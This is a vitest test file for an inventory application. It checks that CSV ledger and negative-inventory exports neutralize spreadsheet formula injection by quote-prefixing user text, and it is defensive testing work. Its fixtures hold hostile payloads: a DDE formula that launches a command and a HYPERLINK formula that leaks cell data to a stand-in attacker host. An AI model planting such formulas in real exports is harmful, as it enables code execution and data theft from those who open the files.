import { describe, expect, it } from 'vitest';
import { decodeId } from '../src/node/global-id.js';
import { createAccount, createEmployee, createItem, createShop } from './support/fixtures.js';
import { expectTypename, useTestApp } from './support/harness.js';
import { adjustInventoryMutation } from './support/inventory.js';
import { fetchCsv, insertItems, sell } from './support/reports.js';

// CSV exports neutralize formula injection (OWASP "CSV Injection"): a cell of user text that a
// spreadsheet would run as a formula starts with `'`; quantities stay plain numbers.

const t = useTestApp();

const formulaShop = "=cmd|' /C calc'!A0";
const formulaNote = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")';

async function hostileCatalogue() {
  const account = await createAccount(t);
  const token = account.adminToken;
  const cashier = await createEmployee(t, token, 'CASHIER');
  // Names have no rules a formula breaks; set one directly rather than add a mutation for it.
  await t.db.updateTable('employees').set({ name: '-2+3 Eve' }).where('id', '=', decodeId(cashier.employeeId, 'Employee')!).execute();
  const shop = await createShop(t, token, formulaShop);
  const plus = await createItem(t, token, '+SKU-PLUS', '@SUM(A1:A9)');
  const minus = await createItem(t, token, '-SKU-MINUS', 'Plain minus item');
  // Tab and carriage return survive only where input is not trimmed: inserted straight away.
  const [tab, carriageReturn] = await insertItems(t.db, account.accountId, ['TAB-1', 'CR-1'], (sku) =>
    sku === 'TAB-1' ? '\tTabbed' : '\rReturned',
  );
  const plain = await createItem(t, token, 'PLAIN-1', 'Plain item');
  await sell(
    t,
    cashier.token,
    shop.id,
    [plus, minus, tab!, carriageReturn!, plain].map((item) => ({ itemId: item.id, quantity: 3 })),
  );
  expectTypename(
    (await t.run(adjustInventoryMutation, { input: { shopId: shop.id, itemId: plain.id, quantityChange: -2, note: formulaNote } }, token))
      .adjustInventory,
    'AdjustInventoryPayload',
  );
  expectTypename(
    (
      await t.run(
        adjustInventoryMutation,
        { input: { shopId: shop.id, itemId: minus.id, quantityChange: 1, note: '+1 found behind the shelf' } },
        token,
      )
    ).adjustInventory,
    'AdjustInventoryPayload',
  );
  return { token };
}

/** The records as objects keyed by the header, to pick columns by name. */
function byColumn(header: string[], records: string[][]) {
  return records.map((record) => Object.fromEntries(header.map((name, index) => [name, record[index]!])));
}

describe('CSV exports and formula injection', () => {
  it('prefix user text that starts a formula with a quote, in the ledger export', async () => {
    const { token } = await hostileCatalogue();
    const { response, header, records, text } = await fetchCsv(t, '/ledger.csv', token);
    expect(response.status).toBe(200);
    const rows = byColumn(header, records);
    expect(rows).toHaveLength(7);

    const sale = (sku: string) => rows.find((row) => row['SKU'] === sku && row['Reason'] === 'SALE')!;
    expect(sale("'+SKU-PLUS")).toMatchObject({ Item: "'@SUM(A1:A9)", Shop: `'${formulaShop}`, Employee: "'-2+3 Eve" });
    expect(sale("'-SKU-MINUS")).toMatchObject({ Item: 'Plain minus item' });
    expect(sale('TAB-1')).toMatchObject({ Item: "'\tTabbed" });
    expect(sale('CR-1')).toMatchObject({ Item: "'\rReturned" });
    expect(sale('PLAIN-1')).toMatchObject({ Item: 'Plain item', 'Quantity change': '-3', 'Quantity before': '0', 'Quantity after': '-3' });

    const manual = rows.filter((row) => row['Reason'] === 'MANUAL');
    expect(manual.map((row) => row['Note']).sort()).toEqual([`'${formulaNote}`, "'+1 found behind the shelf"].sort());
    expect(manual.find((row) => row['SKU'] === 'PLAIN-1')).toMatchObject({ 'Quantity change': '-2', 'Quantity after': '-5' });

    // Quantities are written as bare numbers, negative ones included: never quoted, never prefixed.
    expect(text).toContain(',SALE,-3,0,-3,SALE,');
    const quantityColumns = header.flatMap((name, index) => (name.startsWith('Quantity') ? [index] : []));
    expect(quantityColumns).toHaveLength(3);
    for (const record of records) for (const index of quantityColumns) expect(record[index]).toMatch(/^-?\d+$/);
    // Every cell that starts a formula is neutralized: no field begins with one unprefixed.
    const unescaped = records.flatMap((record) =>
      record.filter((cell, index) => !header[index]!.startsWith('Quantity') && /^[=+\-@\t\r]/.test(cell)),
    );
    expect(unescaped).toEqual([]);
  });

  it('do the same in the negative inventory report export', async () => {
    const { token } = await hostileCatalogue();
    const { response, header, records } = await fetchCsv(t, '/reports/negative-inventory.csv', token);
    expect(response.status).toBe(200);
    const rows = byColumn(header, records);
    expect(rows.map((row) => row['SKU']).sort()).toEqual(
      ["'+SKU-PLUS", "'-SKU-MINUS", "'-SKU-MINUS", 'CR-1', 'PLAIN-1', 'PLAIN-1', 'TAB-1'].sort(),
    );
    expect(rows.find((row) => row['SKU'] === "'+SKU-PLUS")).toMatchObject({
      Item: "'@SUM(A1:A9)",
      Shop: `'${formulaShop}`,
      Employee: "'-2+3 Eve",
      'Quantity change': '-3',
      'Quantity after': '-3',
      'Quantity on hand': '-3',
      'In transit': '0',
    });
    expect(rows.filter((row) => row['SKU'] === 'PLAIN-1').map((row) => row['Quantity on hand'])).toEqual(['-5', '-5']);
    expect(rows.find((row) => row['SKU'] === 'TAB-1')?.['Item']).toBe("'\tTabbed");
  });
});
